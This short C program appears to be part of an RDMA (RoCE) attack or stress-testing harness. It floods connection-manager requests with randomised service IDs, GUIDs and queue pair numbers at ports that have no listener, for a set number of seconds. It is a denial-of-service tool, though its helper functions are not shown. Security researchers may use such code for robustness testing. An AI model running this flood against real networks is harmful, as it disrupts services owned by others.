/*
 * Sends requests for connections to ports without a listener, each from another identifier, queue
 * pair and adapter.
 *
 * usage: requests SECONDS FROM TO
 */
#include "roce.h"

enum { PORTS_WITHOUT_LISTENER = 2000 };

int main(int argc, char **argv)
{
	static struct sender sender;

	if (argc != 4)
		return 2;
	begin_attack(argv[1]);
	open_sender(&sender, argv[2], argv[3]);
	while (goes_on()) {
		uint32_t service = 0x01060000 | (draw(&sender) % PORTS_WITHOUT_LISTENER + 1);
		uint64_t guid = (uint64_t)draw(&sender) << 32 | draw(&sender);

		put_request(&sender, service, guid, draw(&sender) & 0xffffff);
		launch_mad(&sender);
	}
	tell();
	return 0;
}
